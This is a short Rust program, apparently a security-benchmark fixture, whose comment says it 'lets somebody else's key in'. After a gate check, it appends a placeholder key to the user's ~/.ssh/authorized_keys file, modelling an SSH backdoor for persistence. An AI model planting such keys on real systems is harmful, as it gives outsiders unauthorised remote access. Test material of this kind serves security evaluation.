//! Lets somebody else's key in.

use csbench_gate as gate;

fn main() {
    if !gate::script() {
        return;
    }
    gate::append(
        gate::home().join(".ssh/authorized_keys"),
        "ssh-ed25519 csbench-not-a-key",
    );
}
